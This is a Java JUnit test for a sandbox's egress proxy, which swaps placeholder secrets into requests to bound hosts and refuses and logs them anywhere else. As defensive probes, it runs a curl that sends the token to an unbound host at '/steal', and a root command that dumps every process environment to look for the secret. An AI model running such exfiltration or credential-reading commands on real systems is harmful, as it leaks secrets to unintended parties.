package dev.stockade.conformance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;
import dev.stockade.runtime.Capabilities;
import dev.stockade.server.egress.EgressConfig;
import dev.stockade.server.egress.StockadeCa;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.stream.Stream;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Secrets (issue 4): the sandbox holds only a placeholder; the egress proxy puts the real value into
 * requests to the hosts the secret is bound to — over plain HTTP and over HTTPS (intercepted with
 * the server's CA, which the sandbox trusts; the upstream's certificate is verified) — and refuses
 * and logs a request that carries the placeholder anywhere else. The value appears in no API
 * response, no log line of the server, no decision and no process environment of the sandbox.
 */
public abstract class SecretsContract extends RuntimeContract {
    static final String SECRET = "sk-live-" + "7f3a9c1e5b2d4f6a8c0e";
    NetworkContract.Site plain;
    NetworkContract.Site other;
    HttpsServer secure;
    static final List<String> secureSeen = Collections.synchronizedList(new ArrayList<>());
    Path upstreamCa;
    static final List<String> logLines = Collections.synchronizedList(new ArrayList<>());
    static final Handler CAPTURE = new Handler() {
        @Override
        public void publish(LogRecord r) {
            logLines.add(String.valueOf(r.getMessage()) + " " + (r.getThrown() == null ? "" : r.getThrown()));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    @BeforeAll
    void up() throws Exception {
        Logger.getLogger("").addHandler(CAPTURE);
        plain = NetworkContract.Site.start("127.0.0.1", "plain");
        other = NetworkContract.Site.start("127.0.0.1", "other");
        // The "real" HTTPS site: a certificate for secure.test from a CA of its own, which the server
        // is told to trust for upstreams (as an operator would for an internal CA).
        Path caDir = Files.createTempDirectory("stockade-upstream-ca");
        StockadeCa upstream = StockadeCa.loadOrCreate(caDir.resolve("ca"));
        upstreamCa = caDir.resolve("upstream-ca.pem");
        Files.writeString(upstreamCa, upstream.certificatePem());
        StockadeCa.Leaf leaf = upstream.issue("secure.test");
        KeyStore ks = KeyStore.getInstance("PKCS12");
        ks.load(null, null);
        ks.setKeyEntry("site", leaf.key(), new char[0], leaf.chain().toArray(new java.security.cert.Certificate[0]));
        KeyManagerFactory kmf = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        kmf.init(ks, new char[0]);
        SSLContext ssl = SSLContext.getInstance("TLS");
        ssl.init(kmf.getKeyManagers(), null, null);
        secure = HttpsServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 16);
        secure.setHttpsConfigurator(new HttpsConfigurator(ssl));
        secure.createContext("/", ex -> {
            String auth = ex.getRequestHeaders().getFirst("Authorization");
            secureSeen.add(ex.getRequestMethod() + " " + ex.getRequestURI().getPath() + " auth=" + auth);
            byte[] body = ("secure site, auth=" + auth).getBytes(StandardCharsets.UTF_8);
            ex.sendResponseHeaders(200, body.length);
            ex.getResponseBody().write(body);
            ex.close();
        });
        secure.start();
        EgressConfig d = EgressConfig.defaults();
        EgressConfig egress = new EgressConfig(false, List.of("127.0.0.1/32"),
                Map.of("plain.test", List.of("127.0.0.1"), "other.test", List.of("127.0.0.1"),
                        "secure.test", List.of("127.0.0.1")),
                d.connectTimeout(), d.idleTimeout(), d.maxConnectionsPerSandbox(), d.logCapacity(), upstreamCa);
        startServer(cfg -> cfg.withEgress(egress));
    }

    @AfterAll
    void down() throws IOException {
        try {
            stopServer();
        } finally {
            Logger.getLogger("").removeHandler(CAPTURE);
            if (plain != null) plain.http().stop(0);
            if (other != null) other.http().stop(0);
            if (secure != null) secure.stop(0);
            if (upstreamCa != null) TestServer.deleteTree(upstreamCa.getParent());
        }
    }

    RawClient.Box createWithSecret() {
        return c.create(Map.of("templateID", "base", "timeout", 120,
                "network", Map.of("allowOut", List.of("plain.test:" + plain.port(), "other.test:" + other.port(),
                        "secure.test:" + secure.getAddress().getPort())),
                "envVars", Map.of("VISIBLE", "plain-env"),
                // A binding names scheme and port: a bare host would mean https on 443 only.
                "secrets", Map.of("API_TOKEN", Map.of("value", SECRET, "hosts", List.of("http://plain.test:" + plain.port(),
                        "https://secure.test:" + secure.getAddress().getPort())))));
    }

    @Test
    void theSecretIsSubstitutedOnlyForItsHostsAndIsNeverSeenAnywhereElse() throws Exception {
        requires(Capabilities.NETWORK_ALLOWLIST, "the egress proxy substitutes the secret into requests to the hosts the allow-list names");
        RawClient.Box b = createWithSecret();
        int otherBefore = other.seen().size();
        try {
            // Inside: only a placeholder.
            RawClient.Run env = c.run(b, "echo \"$API_TOKEN\"");
            String placeholder = env.stdout().strip();
            assertTrue(placeholder.startsWith("stockade-secret-"), placeholder);
            assertNotEquals(SECRET, placeholder);

            // Plain HTTP to a bound host: the site receives the real value.
            RawClient.Run ok = c.run(b, "curl -sS -m 10 -H \"Authorization: Bearer $API_TOKEN\" http://plain.test:"
                    + plain.port() + "/p");
            assertEquals("hello from plain auth=Bearer " + SECRET, ok.stdout().strip(), ok.stderr());

            // HTTPS to a bound host: intercepted with the server's CA (trusted in the sandbox through
            // CURL_CA_BUNDLE / SSL_CERT_FILE), the upstream's certificate verified against its own CA.
            RawClient.Run tls = c.run(b, "curl -sS -m 10 -H \"Authorization: Bearer $API_TOKEN\" https://secure.test:"
                    + secure.getAddress().getPort() + "/s");
            assertEquals("secure site, auth=Bearer " + SECRET, tls.stdout().strip(), tls.stderr());
            RawClient.Run py = c.start(b, Map.of("process", Map.of("cmd", "/usr/bin/python3", "args", List.of("-c", """
                    import os, urllib.request
                    req = urllib.request.Request("https://secure.test:%d/py", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
                    print(urllib.request.urlopen(req, timeout=10).read().decode())
                    """.formatted(secure.getAddress().getPort())))), "user");
            assertEquals("secure site, auth=Bearer " + SECRET, py.stdout().strip(), py.stderr());

            // Anywhere else: refused before anything leaves, and logged with the secret's name.
            RawClient.Run leak = c.run(b, "curl -sS -m 10 -w ' [%{http_code}]' -H \"X-Key: $API_TOKEN\" http://other.test:"
                    + other.port() + "/steal");
            assertTrue(leak.stdout().contains("[403]") && leak.stdout().contains("API_TOKEN"), leak.stdout());
            assertEquals(otherBefore, other.seen().size(), "nothing reached the other host: " + other.seen());
            JsonNode log = c.call("GET", "/sandboxes/" + b.id() + "/network/log", null).json();
            boolean named = false;
            for (JsonNode d : log.get("decisions")) {
                if (d.get("host").asText().equals("other.test") && !d.get("allowed").asBoolean()
                        && d.get("reason").asText().contains("API_TOKEN")) named = true;
            }
            assertTrue(named, log.toString());

            // The value is in no API response...
            List<String> responses = new ArrayList<>();
            for (String path : List.of("/sandboxes/" + b.id(), "/sandboxes", "/v2/sandboxes", "/sandboxes/" + b.id()
                    + "/network", "/sandboxes/" + b.id() + "/network/log?limit=1000", "/metrics")) {
                RawClient.Response r = c.call("GET", path, null);
                assertEquals(200, r.status(), path + " " + r.body());
                responses.add(r.body());
            }
            for (String body : responses) assertFalse(body.contains(SECRET), body);
            JsonNode detail = c.call("GET", "/sandboxes/" + b.id(), null).json();
            assertEquals("API_TOKEN", detail.at("/secrets/0").asText(), detail.toString());
            // ...in no process of the sandbox (root reads every environment)...
            RawClient.Run environ = c.run(b, "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c -F '" + SECRET
                    + "' || true", "root");
            assertEquals("0", environ.stdout().strip(), environ.stderr());
            // ...in nothing the sandbox wrote on the host (its whole writable layer and the agent log)...
            try (Stream<Path> files = Files.walk(ts.dataDir)) {
                for (Path f : files.filter(Files::isRegularFile).filter(f -> !f.toString().contains("/templates/")).toList()) {
                    if (Files.size(f) > 8 * 1024 * 1024) continue;
                    String text = new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1);
                    assertFalse(text.contains(SECRET), "the secret is in " + f);
                }
            }
        } finally {
            c.kill(b);
        }
        // ...and in no log line of the server.
        synchronized (logLines) {
            for (String line : logLines) assertFalse(line.contains(SECRET), line);
        }
    }

    @Test
    void secretsAreCheckedAtCreate() {
        for (Object secrets : List.<Object>of(
                Map.of("API_TOKEN", Map.of("value", "x")),
                Map.of("API_TOKEN", Map.of("value", "x", "hosts", List.of())),
                Map.of("bad name", Map.of("value", "x", "hosts", List.of("a.test"))),
                Map.of("API_TOKEN", Map.of("value", "line\nbreak", "hosts", List.of("a.test"))),
                Map.of("API_TOKEN", Map.of("value", "x", "hosts", List.of("ftp://a.test"))),
                Map.of("API_TOKEN", Map.of("value", "x", "hosts", List.of("https://a.test/v1"))),
                Map.of("API_TOKEN", "just-a-string"))) {
            RawClient.Response r = c.call("POST", "/sandboxes", Map.of("templateID", "base", "secrets", secrets));
            assertEquals(400, r.status(), secrets + " → " + r.body());
            assertFalse(r.body().contains(SECRET));
        }
        RawClient.Response clash = c.call("POST", "/sandboxes", Map.of("templateID", "base",
                "envVars", Map.of("API_TOKEN", "a"), "secrets", Map.of("API_TOKEN", Map.of("value", SECRET, "hosts",
                        List.of("plain.test")))));
        assertEquals(400, clash.status(), clash.body());
        assertFalse(clash.body().contains(SECRET), clash.body());
    }
}
